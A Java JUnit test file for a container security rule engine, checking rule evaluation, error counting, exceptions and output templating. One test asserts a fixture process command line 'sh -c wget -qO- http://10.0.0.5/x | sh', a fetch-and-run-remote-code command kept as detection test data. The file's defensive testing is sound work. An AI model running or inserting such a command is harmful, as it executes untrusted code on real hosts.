package dev.dockward.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class RuleEngineTest {

  private static RuleEngine engine(String yaml) {
    LoadResult result = Fixtures.load("t.yaml", yaml);
    assertTrue(!result.hasErrors(), () -> result.problems().toString());
    return new RuleEngine(result.ruleSet());
  }

  @Test
  void evaluationErrorIsCountedAndNotThrown() {
    RuleEngine engine =
        engine(
            """
                rules:
                  - id: missing_key
                    condition: event.type == "exec" && event.no_such_key == "x"
                    severity: low
                """);
    Map<String, Object> event = Fixtures.event("exec_shell_in_container");
    assertEquals(List.of(), engine.evaluate(event));
    assertEquals(List.of(), engine.evaluate(event));
    assertEquals(new RuleStats(2, 0, 0, 2), engine.stats("missing_key").orElseThrow());
  }

  @Test
  void typeMismatchIsAnEvaluationErrorToo() {
    RuleEngine engine =
        engine(
            """
                rules:
                  - id: mismatch
                    condition: proc.name + 1 == 2
                    severity: low
                """);
    assertEquals(List.of(), engine.evaluate(Fixtures.event("exec_shell_in_container")));
    assertEquals(1, engine.stats("mismatch").orElseThrow().errors());
  }

  @Test
  void rulesAreOnlyEvaluatedForTheEventTypesTheyRequire() {
    RuleEngine engine =
        engine(
            """
                rules:
                  - id: on_start
                    condition: event.type == "container_start" && container.privileged == true
                    severity: low
                  - id: on_start_or_stop
                    condition: container.id != "" && event.type in ["container_start", "container_stop"]
                    severity: low
                  - id: reversed
                    condition: '"exec" == event.type'
                    severity: low
                  - id: any_type
                    condition: event.kind == "event"
                    severity: low
                  - id: or_is_not_an_index
                    condition: event.type == "container_start" || proc.name == "sh"
                    severity: low
                """);
    engine.evaluate(Fixtures.event("exec_shell_in_container"));
    engine.evaluate(Fixtures.event("container_stop"));
    Map<String, RuleStats> stats = engine.stats();
    assertEquals(0, stats.get("on_start").evaluations());
    assertEquals(1, stats.get("on_start_or_stop").evaluations());
    assertEquals(1, stats.get("reversed").evaluations());
    assertEquals(2, stats.get("any_type").evaluations());
    assertEquals(2, stats.get("or_is_not_an_index").evaluations());
  }

  @Test
  void exceptionSuppressesAndIsCounted() {
    RuleEngine engine = new RuleEngine(RuleLoader.load(RuleFiles.bundled()).ruleSet());
    assertEquals(List.of(), engine.evaluate(Fixtures.event("exec_shell_allowed_label")));
    assertEquals(new RuleStats(1, 0, 1, 0), engine.stats("shell_in_container").orElseThrow());
  }

  @Test
  void hostileStringsPassThroughTheTemplateIntact() {
    RuleEngine engine =
        engine(
            """
                rules:
                  - id: hostile
                    condition: event.type == "exec"
                    severity: low
                    output: "name={proc.name} cmd={proc.cmdline} label={container.labels.com.example.team}"
                    evidence:
                      name: proc.name
                """);
    String name = "sh\n\"quoted\" {proc.pid} \\ \u00ff\ufffd\u0000end";
    Map<String, Object> event = Fixtures.event("exec_shell_in_container");
    @SuppressWarnings("unchecked")
    Map<String, Object> process = (Map<String, Object>) event.get("process");
    process.put("name", name);
    @SuppressWarnings("unchecked")
    Map<String, Object> container = (Map<String, Object>) event.get("container");
    container.put("labels", Map.of("com.example.team", "a\"b"));
    RuleMatch match = engine.evaluate(event).get(0);
    assertEquals(
        "name=" + name + " cmd=sh -c wget -qO- http://10.0.0.5/x | sh label=a\"b", match.summary());
    assertEquals(name, match.evidence().get("name"));
  }

  @Test
  void missingTemplateValuesPrintNoneAndListsAreJoined() {
    RuleEngine engine =
        engine(
            """
                rules:
                  - id: t
                    condition: event.type == "container_start"
                    severity: low
                    output: "{container.cap_add} {container.nothing} {{literal}} {event.already_running} {container.limits.memory}"
                """);
    Map<String, Object> event = Fixtures.event("container_start_cap_sys_admin");
    assertEquals(
        "SYS_ADMIN,CHOWN,NET_ADMIN <none> {literal} false 268435456",
        engine.evaluate(event).get(0).summary());
  }

  @Test
  void integersFromJsonAreComparedAsCelInts() {
    RuleEngine engine =
        engine(
            """
                lists:
                  ports: [2375, 2376]
                rules:
                  - id: numbers
                    condition: event.type == "exec" && proc.pid == 4321 && event.port in lists.ports && res.cpu > 1
                    severity: low
                """);
    Map<String, Object> event = new LinkedHashMap<>(Fixtures.event("exec_shell_in_container"));
    event.put("port", Integer.valueOf(2375));
    event.put("res", Map.of("cpu", Float.valueOf(1.5f)));
    assertEquals(List.of("numbers"), Fixtures.firedIds(engine, event));
  }

  @Test
  void hostEventSeesDefaultContainer() {
    RuleEngine engine =
        engine(
            """
                rules:
                  - id: host_proc
                    condition: container.id == "" && container.labels.size() == 0 && proc.name == "sh"
                    severity: low
                """);
    assertEquals(
        List.of("host_proc"), Fixtures.firedIds(engine, Fixtures.event("exec_shell_on_host")));
    assertEquals(0, engine.stats("host_proc").orElseThrow().errors());
  }

  @Test
  void failingEvidenceIsLeftOutButTheRuleStillFires() {
    RuleEngine engine =
        engine(
            """
                rules:
                  - id: partial
                    condition: event.type == "exec"
                    severity: low
                    output: "{evidence.ok} {evidence.broken}"
                    evidence:
                      ok: proc.pid
                      broken: event.nothing
                """);
    RuleMatch match = engine.evaluate(Fixtures.event("exec_shell_in_container")).get(0);
    assertEquals(Map.of("ok", 4321L), match.evidence());
    assertEquals("4321 <none>", match.summary());
    assertEquals(1, engine.stats("partial").orElseThrow().errors());
  }
}
